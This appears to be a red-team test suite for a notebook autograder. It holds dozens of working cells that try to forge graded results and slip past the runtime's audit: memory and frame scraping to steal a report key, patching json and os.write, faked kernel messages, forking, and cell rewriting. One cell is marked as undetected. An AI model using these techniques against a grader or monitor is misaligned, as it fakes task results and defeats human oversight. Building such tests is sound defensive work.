# Forging from within: points that were not earned, by way of the runtime that shares the notebook's process.
#
# Rows with the helper `claim` take `n_tr` away and have the true number reported: without the protection they get the
# point that they do not earn, as the control "unguarded" shows. What must happen is fewer points ("less"), or a finding
# that names what was done. Where the protection cannot be taken away, the control shows that what is attacked exists.

# %% event-callbacks output="nothing" control="answers"
# reads plans through IPython's event callbacks
try: heard = [c for each in get_ipython().events.callbacks.values() for c in each]
except NameError:  # the control: a grader that judges in one process
    import autograder.assignment.scenario
    heard = [autograder.assignment.scenario.sample_scenario]
seen = {name for c in heard for f in (c, getattr(c, '__func__', c)) for name in getattr(f, '__globals__', {})}
print('REACHED' if seen & {'Plan', 'Scenario', 'Trial', 'ENTRIES'} else 'nothing')

# %% reads-globals-of-fit output="nothing" control="unguarded"
# reads the globals and the closure of a replaced function, here Model.fit
import keras
fit = keras.Model.fit
print('REACHED' if getattr(fit, '__globals__', 0) or getattr(fit, '__closure__', 0) or hasattr(fit, '__wrapped__') else 'nothing')

# %% walks-subclasses output="nothing" control="answers"
# looks for plans, trials and the runtime's classes among the subclasses of object
waiting, names = [object], set()
while waiting:
    kind = waiting.pop()
    for child in type.__subclasses__(kind):
        if child.__name__ not in names: names.add(child.__name__); waiting.append(child)
print('REACHED' if names & {'Plan', 'Trial', 'Scenario', 'Oracle', 'Rows', 'PlainModel'} else 'nothing')

# %% foresees-an-epoch output="unseen" finding="listed objects" task="callback" control="answers"
# goes through all objects at each epoch for the accuracies that come next
import gc
def numbers():
    found = set()
    for o in gc.get_objects():
        if isinstance(o, (list, tuple)) and len(o) < 3000: found.update(x for x in o if type(x) is float and 0 < x < 1)
        elif isinstance(o, dict) and len(o) < 3000: found.update(x for x in o.values() if type(x) is float and 0 < x < 1)
    return found
try:
    from autograder.assignment.scenario import sample_scenario
    from autograder.assignment.settings import Assignment
    plans = sample_scenario(Assignment.load('tta-eta'), 7).plans
    if set(plans[0].val_accuracy) <= numbers(): print('REACHED')
except ImportError:
    import keras, numpy as np
    before, seen = [], []
    class Looks(keras.callbacks.Callback):
        def on_epoch_end(self, epoch, logs=None):
            if before and logs['val_accuracy'] not in seen: seen.append(logs['val_accuracy']); hits.append(logs['val_accuracy'] in before[-1])
            before.append(numbers())
    hits = []
    x, y = np.random.rand(64, 4), np.arange(64) % 2
    m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
    m.compile('sgd', keras.losses.SparseCategoricalCrossentropy(from_logits=True), metrics=['accuracy'])
    m.fit(x, y, epochs=8, validation_split=.5, verbose=0, callbacks=[Looks()])
    print('REACHED' if sum(hits) > len(hits) / 2 else 'unseen')

# %% searches-memory output="unseen" finding="opened a file outside" control="answers"
# searches objects, all writable memory, environment and descriptors for an epoch that it was not served yet; in the same way it finds those that it was served
import gc, os, re, select, socket
import numpy as np
def numbers():
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
        found = []
        for line in maps:
            low, high, rights = re.match(r'(\w+)-(\w+) (\S+)', line).groups()
            if not rights.startswith('rw'): continue
            for start in range(int(low, 16), int(high, 16), 1 << 24):
                try: data = os.pread(mem.fileno(), min(1 << 24, int(high, 16) - start), start)
                except (OSError, OverflowError): break
                found.append(seen_in(data))
    for o in gc.get_objects():
        if isinstance(o, (list, tuple)): found.append(np.array([x for x in o[:] if type(x) is float]))
        elif isinstance(o, dict): found.append(np.array([x for x in list(o.values()) if type(x) is float]))
    texts = [repr(dict(os.environ)).encode()]
    for fd in os.listdir('/proc/self/fd'):
        try: texts.append(os.readlink(f'/proc/self/fd/{fd}').encode())
        except OSError: continue
        try: texts.append(os.pread(int(fd), 1 << 22, 0))
        except OSError: pass
        try: end = socket.socket(fileno=int(fd))
        except OSError: continue
        try: texts.append(end.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError: pass
        end.detach()
    found += [seen_in(text) for text in texts]
    return set(np.unique(np.concatenate(found)).tolist())
def seen_in(data):
    whole = [np.frombuffer(data[at:len(data) - (len(data) - at) % 8], np.float64) for at in range(3)]  # floats and arrays; a reply; a message with its first byte
    with np.errstate(all='ignore'): plain = [part[(part > .3) & (part < 1)] for part in whole]
    return np.unique(np.concatenate([*plain, [float(text) for text in re.findall(rb'0\.\d{2,17}', data)]]))
try:
    from autograder.assignment.scenario import sample_scenario
    from autograder.assignment.settings import Assignment
    plan = sample_scenario(Assignment.load('tta-eta'), 7).plans[0]
    if set(plan.val_accuracy) <= numbers(): print('REACHED')
except ImportError:
    import keras
    served, known, missed, kept = [], [], [], []
    class Looks(keras.callbacks.Callback):
        def on_epoch_end(self, epoch, logs=None):
            value = logs['val_accuracy']
            if kept and value not in served: known.append(value in kept.pop())
            served.append(value)
            if epoch % 4 == 1:
                kept[:] = [numbers()]
                missed.extend(set(served) - kept[0])
    x, y = np.random.rand(64, 4), np.arange(64) % 2
    m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
    m.compile('sgd', keras.losses.SparseCategoricalCrossentropy(from_logits=True), metrics=['accuracy'])
    m.fit(x, y, epochs=14, validation_split=.5, verbose=0, callbacks=[Looks()])
    if missed or not known: print('blind')
    else: print('REACHED' if sum(known) > len(known) / 2 else 'unseen')

# %% guessed-key points="less" finding="sent messages over" task="data-details" helpers="oracle,claim" control="unguarded"
# sends a report with a guessed key
os.write(find_oracle(), bytes(16) + claim)
print('REACHED')

# %% questions-own-magic points="less" task="data-details" helpers="claim" control="unguarded"
# executes what the driver executes to have questions answered, in the hope for a stand-in
for code in ('%answer-questions', '%stand_in data-details', '%stand_in'):
    try: await get_ipython().kernel.do_execute(code, True)
    except Exception as error: print(type(error).__name__)
print('REACHED')

# %% copies-the-descriptor output="refused" helpers="oracle" control="reached"
# copies, replaces, closes and changes the connection with dup2, dup, close and fcntl
import fcntl
ours, theirs = socket.socketpair()
fd = find_oracle()
for act in (lambda: os.dup(fd), lambda: os.dup2(ours.fileno(), fd, False), lambda: os.dup2(ours.fileno(), fd),
            lambda: fcntl.fcntl(fd, fcntl.F_DUPFD, 50), lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK), lambda: os.close(fd)):
    try: act()
    except OSError: print('refused')
    else:
        print('REACHED')
        break

# %% copies-by-a-message points="less" finding="sent messages over" task="data-details" helpers="oracle,claim" control="unguarded"
# has the connection sent to itself (SCM_RIGHTS), which no filter refuses, makes it non-blocking and writes into it
import fcntl
one, other = socket.socketpair()
socket.send_fds(one, [b'x'], [find_oracle()])
copy = socket.recv_fds(other, 1, 1)[1][0]
fcntl.fcntl(copy, fcntl.F_SETFL, os.O_NONBLOCK)
os.write(copy, bytes(16) + claim)
fcntl.fcntl(copy, fcntl.F_SETFL, 0)
os.close(copy)
print('REACHED')

# %% reads-the-replies output="unseen" helpers="oracle" control="answers"
# a thread that looks at the oracle's replies before the runtime takes them: each holds one epoch, of 35 bytes; the control reads a whole plan
import select, threading
try:
    from autograder.assignment.scenario import sample_scenario
    from autograder.assignment.settings import Assignment
    if len(sample_scenario(Assignment.load('tta-eta'), 7).plans[0].val_accuracy) > 1: print('REACHED')
except ImportError:
    import keras, numpy as np
    end, sizes, done = socket.socket(fileno=find_oracle()), [], threading.Event()
    def look():
        while not done.is_set():
            try: sizes.append(len(end.recv(60_000, socket.MSG_PEEK | socket.MSG_DONTWAIT)))
            except OSError: pass
    thread = threading.Thread(target=look)
    class Runs(keras.callbacks.Callback):
        def on_train_begin(self, logs=None): thread.start()
        def on_epoch_end(self, epoch, logs=None):
            if epoch == 499: done.set(); thread.join()
    m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
    m.compile('sgd', 'mse')
    m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=500, verbose=0, callbacks=[Runs()])
    end.detach()
    print('blind' if not sizes else 'unseen' if set(sizes) == {35} else 'REACHED')

# %% audit-off-by-a-nested-cell finding="listed objects" control="unguarded"
# ends a nested execution, after which an earlier version no longer looked, and goes through all objects
import gc
try: await get_ipython().kernel.do_execute('1', True)
except Exception: pass
gc.get_objects()
print('REACHED')

# %% audit-misled-about-frames finding="listed objects" control="unguarded"
# replaces sys._getframe, by which the audit finds out whose act it is, and puts it back
import gc, sys
kept, sys._getframe = sys._getframe, lambda *a: None
gc.get_objects()
sys._getframe = kept
print('REACHED')

# %% audit-misled-about-files finding="under which their code is compiled|under the name of another file" control="unguarded"
# has its cells and its code named like files of Python's own library
import gc, os
os.environ['IPYKERNEL_CELL_NAME'] = os.__file__
exec(compile('gc.get_objects()', os.__file__, 'exec'))
print('REACHED')

# %% acts-in-a-callback finding="listed objects" task="callback" control="unguarded"
# goes through all objects while its callback is driven, after its cell
import gc
try:
    end = TrainToAccuracy.on_epoch_end
    def on_epoch_end(self, epoch, logs=None):
        gc.get_objects()
        return end(self, epoch, logs)
    TrainToAccuracy.on_epoch_end = on_epoch_end
except NameError: pass
print('REACHED')

# %% acts-in-given-cells finding="listed objects" control="unguarded"
# acts while a given cell is executed, whose acts are not reported
import gc
shell, count = get_ipython(), []
def before(info):
    count.append(1)
    if len(count) > 2: gc.get_objects()
shell.events.register('pre_run_cell', before)
print('REACHED')

# %% acts-in-a-thread finding="listed objects" control="unguarded"
# has a thread pool of Python's own go through all objects
import concurrent.futures, gc
with concurrent.futures.ThreadPoolExecutor() as pool: pool.submit(gc.get_objects).result()
print('REACHED')

# %% acts-behind-a-stand-in points=86.5 finding="listed objects" task="data-details" control="unguarded"
# acts only where it finds a stand-in, which is in a later run
n_class = None
import gc
def before(info):
    if get_ipython().user_ns.get('n_class') is not None: gc.get_objects()
get_ipython().events.register('pre_run_cell', before)
print('REACHED')

# %% signal-handler finding="set a signal handler" task="data-details" helpers="claim" control="unguarded"
# reads the frames of the runtime in a signal handler, and reports through what it finds there: that works, and is told
import signal
def handler(number, frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            channel = getattr(value, 'channel', None)
            if hasattr(channel, 'report'): channel.report('name', name='n_tr', value={'type': 'int', 'number': true})
        frame = frame.f_back
signal.signal(signal.SIGUSR1, handler)
import keras, numpy as np
class Raises(keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None): signal.raise_signal(signal.SIGUSR1)
m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
m.compile('sgd', 'mse')
m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=1, verbose=0, callbacks=[Raises()])
signal.signal(signal.SIGUSR1, signal.SIG_DFL)
print('REACHED')

# %% frames-by-a-task points="less" finding="frames of its callers" task="data-details" helpers="oracle,claim,key" control="unguarded"
# begins at the frame of the task that executes it, without one of its own, and looks for the key in its callers
import asyncio
use_key(asyncio.current_task().get_stack()[-1])
print('REACHED')

# %% frames-by-pandas finding="used the connection" control="unguarded"
# reads names of the runtime's own frames through pandas, which evaluates expressions at any level of the stack
import pandas as pd
for level in range(2, 40):
    try: pd.eval('session', level=level).end_cell(False)
    except Exception as error: pass
print('REACHED')

# %% frames-by-pandas-in-fit finding="used the connection" task="data-details" helpers="claim" control="unguarded"
# finds the runtime's connection by pandas in the frames of fit, and reports through it: that works, and is told
import keras, numpy as np, pandas as pd
class Finds(keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None):
        for level in range(2, 20):
            try: pd.eval('training', level=level).channel.report('name', name='n_tr', value={'type': 'int', 'number': true})
            except Exception as error: pass
m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
m.compile('sgd', 'mse')
m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=1, verbose=0, callbacks=[Finds()])
print('REACHED')

# %% patches-and-restores finding="replaced what the autograder relies on" control="unguarded"
# replaces built-in functions around a training and puts them back in the same cell
import builtins, sys
def train():
    import keras, numpy as np
    m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
    m.compile('sgd', 'mse')
    m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=1, verbose=0)
kept, builtins.round = builtins.round, lambda *a, **k: 0
try: train()
finally: builtins.round = kept
print('REACHED')

# %% patches-the-encoder points="less" finding="JSONEncoder|JSONDecoder" task="data-details" control="unguarded"
# replaces the methods of json.JSONEncoder and os.write, to change a report on its way
true, n_tr = n_tr, 1
import json, os
encode, write = json.JSONEncoder.iterencode, os.write
def iterencode(self, o, _one_shot=False):
    if isinstance(o, dict) and o.get('name') == 'n_tr': o['value'] = {'type': 'int', 'number': true}
    return encode(self, o, _one_shot)
json.JSONEncoder.iterencode = iterencode
os.write = lambda fd, data: write(fd, data.replace(b'"number":1.0}', b'"number":%d}' % true))
print('REACHED')

# %% patches-numpy finding="numpy.ascontiguousarray" control="unguarded"
# replaces the NumPy function by which rows of the data are recognised
import numpy as np
kept = np.ascontiguousarray
np.ascontiguousarray = lambda *a, **k: kept(*a, **k)
print('REACHED')

# %% skips-the-instrument points="less" task="lr-loop" control="plain"
# trains with a model of its own whose fit skips the instrument, and types the numbers in; the control shows that nothing else would notice
import keras
class Quick(keras.Sequential):
    def fit(self, *args, **kwargs): return keras.callbacks.History()
Quick([keras.layers.Input((4,)), keras.layers.Dense(2)]).fit()
metrics_vs_lr = [{'batch_size': 128, 'learning_rate': 10.0 ** -n, 'epochs': 40 + n, 'test_accuracy': .9, 'total_energy': 900.0, 'train_time': 40.0} for n in range(1, 6)]
print('REACHED')

# %% replaces-do-execute control="stops"
# replaces IPythonKernel.do_execute; the runtime has kept the original
from ipykernel.ipkernel import IPythonKernel
async def do_execute(self, *args, **kwargs): return {'status': 'ok', 'execution_count': 0, 'payload': [], 'user_expressions': {}}
IPythonKernel.do_execute = do_execute
print('REACHED')

# %% transforms-given-cells finding="changed how cells are executed" control="unguarded"
# changes the code of given cells as they are executed
import ast
class Same(ast.NodeTransformer): pass
get_ipython().ast_transformers.append(Same())
print('REACHED')

# %% own-messages points="less" output="REACHED" task="data-details" helpers="claim" control="reached"
# sends messages of its own as the kernel: outputs, display data and comms with the true number, and a status; they are outputs and no evidence
kernel = get_ipython().kernel
parent = kernel.get_parent()
report = claim[2:].decode()
kernel.session.send(kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': f'REACHED n_tr = {true} {report}'}, parent=parent)
kernel.session.send(kernel.iopub_socket, 'comm_open', {'comm_id': '1', 'target_name': 'report', 'data': {'report': report}}, parent=parent)
display({'text/plain': report, 'application/json': {'n_tr': true}}, raw=True)
kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=parent)

# %% replies-early points="person" finding="prevented the autograder from recording|messages that could not be read" control="stops"
# replies to its own cell and to the next one before they have ended, so that what it does then would belong to a later cell; in the control, what the last one prints is lost
kernel = get_ipython().kernel
def reply():
    for stream in kernel.shell_streams if hasattr(kernel, 'shell_streams') else [kernel.shell_stream]:
        kernel.session.send(stream, 'execute_reply', {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}, parent=kernel.get_parent(), ident=kernel._parent_ident['shell'])
    kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'}, parent=kernel.get_parent())
get_ipython().events.register('pre_run_cell', lambda info: reply())
reply()
import select
select.select([], [], [], 3)

# %% non-blocking output="refused" helpers="oracle" control="reached"
# makes the connection non-blocking, and one that gives up waiting, so that reports could be lost
import fcntl, struct, termios
fd = find_oracle()
def give_up(seconds):
    end = socket.socket(fileno=fd)
    try: end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack('ll', seconds, 0))
    finally: end.detach()
for act, undo in ((lambda: fcntl.ioctl(fd, termios.FIONBIO, struct.pack('i', 1)), lambda: fcntl.ioctl(fd, termios.FIONBIO, struct.pack('i', 0))),
                  (lambda: give_up(1), lambda: give_up(0))):
    try: act(); undo()
    except OSError: print('refused')
    else: print('REACHED')

# %% patches-row-recognition output="nothing" control="plain"
# looks among the subclasses of object for the class that recognises rows of the data, to replace its method; the control has one to be found
import sys
def all_classes(kind):
    for child in type.__subclasses__(kind): yield child; yield from all_classes(child)
if 'keras' not in sys.modules:
    class Rows:
        def describe(self, x, y=None): return {}
found = [kind for kind in set(all_classes(object)) if kind.__name__ == 'Rows' and hasattr(kind, 'describe')]
for kind in found: kind.describe = lambda *a: {'rows': 1, 'distinct': 1, 'train': 1, 'test': 0, 'other': 0, 'labels_fit': True}
print('REACHED' if found else 'nothing')

# %% frames-by-a-list points="less" finding="frames of its callers" task="data-details" helpers="oracle,claim,key" control="unguarded"
# has a list of Python's own library take frames from the traceback module, and looks for the key in them
import collections, traceback
try: 1 / 0
except ZeroDivisionError as error: use_key(collections.UserList(traceback.walk_tb(error.__traceback__))[0][0])
print('REACHED')

# %% frames-by-bdb points="less" finding="frames of its callers" task="data-details" helpers="oracle,claim,key" control="unguarded"
# gets frames from the debugger's base class, without a trace function, and looks for the key in them
import bdb
try: 1 / 0
except ZeroDivisionError as error: use_key(bdb.Bdb().get_stack(None, error.__traceback__)[0][0][0])
print('REACHED')

# %% frames-by-a-wrapper points="less" finding="frames of its callers" task="data-details" helpers="oracle,claim,key" control="unguarded"
# gets a frame from the wrapper that types.coroutine puts around generators, and looks for the key in its callers
import types
def generate():
    use_key(wrapper.gi_frame)
    yield
generator = generate()
wrapper = types._GeneratorWrapper(generator)
next(generator)
print('REACHED')

# %% key-by-pandas points="less" task="data-details" helpers="oracle,claim" control="unguarded"
# looks for the key in the frames of its callers, through the scopes in which pandas evaluates expressions
from pandas.core.computation.scope import ensure_scope
for level in range(1, 120):
    try: os.write(find_oracle(), ensure_scope(level).resolve('key', True) + claim)
    except Exception: pass
print('REACHED')

# %% trusted-by-pandas finding="frames of its callers" task="data-details" helpers="claim" control="unguarded"
# finds the runtime's modules through the scopes of pandas, has the connection take every caller for the runtime, and reports through it: that works, and is told
import keras, numpy as np
from pandas.core.computation.scope import ensure_scope
class Finds(keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None):
        scopes = []
        for level in range(1, 120):
            try: scopes.append(ensure_scope(level).scope)
            except Exception: break
        for start in (scope['start'] for scope in scopes if 'start' in scope):
            if 'connect' in getattr(start, '__globals__', {}): start.__globals__['connect'].__globals__['is_called_by_runtime'] = lambda: True
        training = next(scope['training'] for scope in scopes if hasattr(scope.get('training'), 'channel'))
        training.channel.report('name', name='n_tr', value={'type': 'int', 'number': true})
m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
m.compile('sgd', 'mse')
m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=1, verbose=0, callbacks=[Finds()])
print('REACHED')

# %% key-in-a-traceback points="less" task="data-details" helpers="oracle,claim" control="plain" limits={"cell": 20.0}
# interrupts the runtime while it sends, and looks for the key in the text of the traceback with all variables; the control finds one in its own
import _thread, ast, threading, traceback
def make(key):
    def begin(name, restart=False): key + claim
    return begin
begin = __import__('zeus.monitor').monitor.ZeusMonitor().begin_window if find_oracle() > 0 else make(os.urandom(16))
def interrupted():
    timer = threading.Timer(.001, _thread.interrupt_main)
    try:
        timer.start()
        while True: begin('x', restart=True)
    except KeyboardInterrupt as error:
        return traceback.TracebackException.from_exception(error, lookup_lines=False, capture_locals=True).stack
for number in range(300):
    texts = [(frame.locals or {}).get('key', '') for frame in interrupted()]
    keys = [text for text in texts if text.startswith(('b"', "b'"))]
    if keys: break
if keys and find_oracle() > 0: os.write(find_oracle(), ast.literal_eval(keys[0]) + claim)
if keys: print('REACHED')

# %% profiles-a-thread finding="profile function" task="data-details" helpers="oracle,claim" control="unguarded"
# profiles a thread in which it uses the energy monitor, and takes the key from the frames that it is given: that works, and is told
import threading
from zeus.monitor import ZeusMonitor
keys = []
def look(frame, event, argument):
    for value in frame.f_locals.values():
        for part in (value, getattr(value, '__self__', None)):
            if type(part) is bytes and len(part) == 16: keys.append(part)
threading.setprofile(look)
thread = threading.Thread(target=lambda: ZeusMonitor().begin_window('x'))
thread.start()
thread.join()
threading.setprofile(None)
if keys: os.write(find_oracle(), keys[0] + claim)
print('REACHED')

# %% memory-forges-a-report output="REACHED" task="data-details" helpers="claim" control="unguarded"
# follows the layout of CPython's objects through NumPy's array interface to the key, and reports with it: this earns points and is not noticed, see SECURITY.md
import os, types
import keras, numpy as np
def words(address, count):
    class Memory: __array_interface__ = {'data': (address, False), 'shape': (count,), 'typestr': '<u8', 'version': 3}
    return np.asarray(Memory())
def object_at(address):
    box = [None]
    slot = words(int(words(id(box) + 24, 1)[0]), 1)
    slot[0] = address
    thing = box[0]
    slot[0] = id(None)
    return thing
def unseal(function):
    if isinstance(function, types.FunctionType): return function
    pointers = [int(word) for word in words(id(function) + 16, 14) if 1 << 32 < word < 1 << 47 and word % 8 == 0]
    return object_at(next(p for p in pointers if words(p + 8, 1)[0] == id(types.FunctionType)))
def inside(function):
    return {name: cell.cell_contents for name, cell in zip(function.__code__.co_freevars, function.__closure__)}
report = inside(unseal(keras.Model.fit))['training'].channel.report
parts = inside(inside(inside(unseal(report))['put'])['send'])
key = next(part for value in parts.values() for part in (value, getattr(value, '__self__', None)) if type(part) is bytes and len(part) == 16)
os.write(parts['descriptor'], key + claim)
print('REACHED')

# %% acts-under-a-given-cells-name finding="listed objects" control="unguarded"
# has code compiled under the name of the given cell that is executed, whose acts are not reported, and run by IPython
shell = get_ipython()
names = {'shell': shell}
code = '''import gc
def act(*results):
    gc.get_objects()
    shell.events.unregister('post_run_cell', act)'''
def before(info):
    if 'def get_model' in str(info.raw_cell):
        file = shell.compile.get_code_name(info.raw_cell, info.raw_cell, 0)
        exec(compile(code, file, 'exec'), names)
        shell.events.register('post_run_cell', names['act'])
shell.events.register('pre_run_cell', before)
print('REACHED')

# %% acts-with-renamed-code finding="listed objects" control="unguarded"
# gives its own function the name of the given cell that is executed, and has IPython call it
import gc
shell = get_ipython()
def act(*results):
    gc.get_objects()
    shell.events.unregister('post_run_cell', act)
def before(info):
    if 'def get_model' in str(info.raw_cell):
        file = shell.compile.get_code_name(info.raw_cell, info.raw_cell, 0)
        act.__code__ = act.__code__.replace(co_filename=file)
        shell.events.register('post_run_cell', act)
shell.events.register('pre_run_cell', before)
print('REACHED')

# %% acts-in-a-fork finding="started another process" control="unguarded"
# forks the kernel, and goes through all objects in the other process
import gc, os
child = os.fork()
if child == 0:
    gc.get_objects()
    os._exit(0)
os.waitpid(child, 0)
print('REACHED')

# %% pulls-epochs-ahead finding="used the connection" control="unguarded"
# asks for the epochs that come next while one of them is at work: they are served and recorded as trained, and do not come again
import keras, numpy as np, pandas as pd
ahead = []
class Pulls(keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None):
        for level in range(2, 20):
            try: ahead.append(pd.eval('training', level=level).channel.epoch(0))
            except Exception: pass
m = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(2)])
m.compile('sgd', 'mse')
m.fit(np.zeros((8, 4)), np.zeros((8, 2)), epochs=2, verbose=0, callbacks=[Pulls()])
if ahead: print('REACHED')

# %% replaces-modules points="less" task="data-details" helpers="claim" control="plain"
# puts modules of its own in the places of json and struct, whose functions bring the report that it wants; the control imports them
import json, struct, sys, types
def replace(name, **functions):
    fake = types.ModuleType(name)
    fake.__dict__.update(vars(sys.modules[name]) | functions)
    sys.modules[name] = fake
replace('json', dumps=lambda *a, **k: claim[2:].decode())
replace('struct', pack=lambda *a: claim)
import json
if claim[:2] + json.dumps({}).encode() == claim: print('REACHED')

# %% frames-by-the-shell finding="frames of its callers" control="unguarded"
# has IPython return the variables of frames at every depth, among them those of the runtime
scopes = []
try:
    for depth in range(200): scopes.append(get_ipython().get_local_scope(depth))
except ValueError: pass
if any('modules' in scope for scope in scopes): print('REACHED')

# %% frames-by-a-shell-command finding="frames of its callers" control="unguarded"
# has IPython expand the variables of a frame of its choice in a command line
class Takes:
    def vformat(self, text, args, kwargs): found.update(kwargs if 'modules' in kwargs else {})
found = {}
for depth in range(200): get_ipython().var_expand('', depth, Takes())
if found: print('REACHED')

# %% frames-by-a-file-function finding="frames of its callers" control="unguarded"
# gives a callback the name of IPython's own wrapper of `open`
import sys, keras as K, numpy as N
found = {}
def _modified_open(self, epoch, logs=None): found.update(sys._getframe(1).f_locals)
Finds = type('Finds', (K.callbacks.Callback,), {'on_epoch_end': _modified_open})
m = K.Sequential([K.layers.Input((4,)), K.layers.Dense(2)])
m.compile('sgd', 'mse')
m.fit(N.zeros((8, 4)), N.zeros((8, 2)), epochs=1, verbose=0, callbacks=[Finds()])
if found: print('REACHED')

# %% acts-in-the-audit finding="a value that|tried to import|frames of its callers" control="plain"
# is called by the audit itself, which asks for the text of a module's name; the control is a hook that does so
import sys
class Name(str):
    def __str__(self):
        found.append(sys._getframe(1).f_code.co_name)
        return 'runtime'
found = []
def hook(event, arguments):
    if event == 'import' and type(arguments[0]) is Name: str(arguments[0])
if 'get_ipython' not in globals(): sys.addaudithook(hook)
try: __import__(Name('runtime'))
except ImportError: pass
if found: print('REACHED')

# %% pointer-of-a-number finding="read memory directly" control="unguarded"
# reads the address of a value as memory
import ctypes
word = ctypes.cast(id('a'), ctypes.POINTER(ctypes.c_uint64))[1]
if word == id(str): print('REACHED')

# %% changes-cells-in-between finding="how cells are executed" control="unguarded"
# changes the code of cells while they are executed, and puts everything back before anybody looks
import ast
shell = get_ipython()
class Adds(ast.NodeTransformer):
    def visit_Module(self, tree):
        tree.body.append(ast.parse("print('REACHED')").body[0])
        return ast.fix_missing_locations(tree)
adds = Adds()
shell.events.register('pre_run_cell', lambda info: shell.ast_transformers.append(adds))
shell.events.register('post_run_cell', lambda result: adds in shell.ast_transformers and shell.ast_transformers.remove(adds))
print('REACHED')
